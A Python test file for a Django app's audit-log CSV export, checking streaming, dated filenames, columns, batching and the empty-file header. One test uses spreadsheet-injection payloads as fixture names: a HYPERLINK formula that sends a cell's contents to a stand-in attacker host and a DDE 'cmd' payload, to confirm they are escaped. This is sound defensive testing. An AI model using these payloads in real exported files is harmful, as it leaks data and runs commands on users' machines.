"""The export: the filtered rows as a CSV file named with the date, streamed, safe to open in
a spreadsheet whatever a name holds."""

from __future__ import annotations

import pytest
from django.test import Client
from django.utils import timezone

from leaver.administration.tests.auditlog_rows import EXPORT, LIST, exported, write_row
from leaver.cases.events import CaseEvent
from leaver.pathways.young_person.states import State
from leaver.testing import Cast, make_case

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin(client: Client, cast: Cast) -> Client:
    client.force_login(cast.org_admin)
    return client


def test_the_file_is_streamed_with_the_date_in_its_name(admin: Client, cast: Cast) -> None:
    make_case(cast, State.CONSENTED)
    response = admin.get(EXPORT)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="audit-log-north-{timezone.localdate():%Y-%m-%d}.csv"')
    assert "no-store" in response["Cache-Control"]


def test_the_file_has_the_same_rows_as_the_page(admin: Client, cast: Cast) -> None:
    case = make_case(cast, State.CONSENTED)
    rows = exported(admin, case=str(case.public_id))
    assert list(rows[0]) == ["When (UK time)", "Who", "Their email", "What happened",
                             "Event name", "Young person", "Case reference", "About",
                             "IP address"]
    assert [row["Event name"] for row in rows] == [
        "interview.consent_given", "interview.move_notified"]
    consent = rows[0]
    assert consent["Who"] == cast.social_worker.full_name
    assert consent["Their email"] == cast.social_worker.email
    assert consent["What happened"] == "Consent recorded: the young person agreed"
    assert consent["Young person"] == "Jordan Ellis"
    assert consent["Case reference"] == str(case.public_id)


def test_a_malicious_name_is_written_as_text(admin: Client, cast: Cast) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1, "Click me")'
    cast.csm.full_name = evil
    cast.csm.save()
    write_row(cast.org, cast.csm, CaseEvent.VIEWED)
    make_case(cast, State.NOTIFIED, leaver_name="@SUM(1+1)*cmd|' /C calc'!A0")
    rows = exported(admin)
    assert {row["Who"] for row in rows} >= {"'" + evil}
    assert {row["Young person"] for row in rows} >= {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The page shows the name as it is, escaped by the template.
    page = admin.get(LIST).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1, &quot;Click me&quot;)" in page


def test_a_large_log_is_read_in_batches(admin: Client, cast: Cast,
                                        django_assert_max_num_queries: object) -> None:
    case = make_case(cast, State.NOTIFIED)
    for _ in range(2500):
        write_row(cast.org, cast.csm, CaseEvent.VIEWED, object_type="interview",
                  object_id=case.public_id)
    response = admin.get(EXPORT, {"action": CaseEvent.VIEWED.value})
    lines = 0
    with django_assert_max_num_queries(20):  # type: ignore[operator]
        for _chunk in response.streaming_content:  # type: ignore[attr-defined]
            lines += 1
    assert lines == 2501
    assert len(exported(admin, action=CaseEvent.VIEWED.value)) == 2500


def test_an_empty_export_has_its_header(admin: Client, cast: Cast) -> None:
    response = admin.get(EXPORT, {"person": "Nobody"})
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    assert text == "\ufeffWhen (UK time),Who,Their email,What happened,Event name," \
                   "Young person,Case reference,About,IP address\r\n"
